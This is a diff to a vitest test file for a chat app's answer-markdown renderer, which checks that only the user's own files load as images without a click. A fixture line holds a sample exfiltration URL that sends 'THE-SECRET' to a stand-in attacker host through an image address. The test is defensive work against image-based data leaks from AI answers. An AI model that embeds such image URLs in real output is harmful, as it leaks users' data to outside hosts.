@@ -1,7 +1,7 @@
 /** Which images of an answer the browser would load as soon as the text is drawn: the user's own files, and nothing else. */
 import { ChakraProvider } from '@chakra-ui/react';
 import { renderToStaticMarkup } from 'react-dom/server';
-import { beforeEach, describe, expect, it, vi } from 'vitest';
+import { beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { system } from '~/client/app/theme';
 import { AnswerMarkdown } from './answer-markdown';
 import { imageAddress } from './image-address';
@@ -10,7 +10,9 @@ const page = 'https://insight.example/chat/1';
 const file = '/objects/0f8fad5b-d9cb-469f-a165-70867728950e';
 const leak = 'remote-image?url=http%3A%2F%2Fevil.example%2Fp.png%3Fq%3DTHE-SECRET';
 
-beforeEach(() => void vi.stubGlobal('location', new URL(page)));
+const atPage = () => void vi.stubGlobal('location', new URL(page));
+beforeAll(atPage);
+beforeEach(atPage);
 
 const drawn = (content: string) =>
   renderToStaticMarkup(
@@ -18,6 +20,9 @@ const drawn = (content: string) =>
       <AnswerMarkdown content={content} citations={undefined} isRunning={false} />
     </ChakraProvider>,
   ).replace(/<style.*?<\/style>/gs, '');
+
+/** The part that draws images is loaded with the first one. */
+beforeAll(() => vi.waitFor(() => expect(drawn(`![chart](${file})`)).toContain('<img')));
 
 describe('an image of an answer', () => {
   it.each([file, `${file}/preview`])('is drawn without a click when it is a file of the user: %s', (src) => {
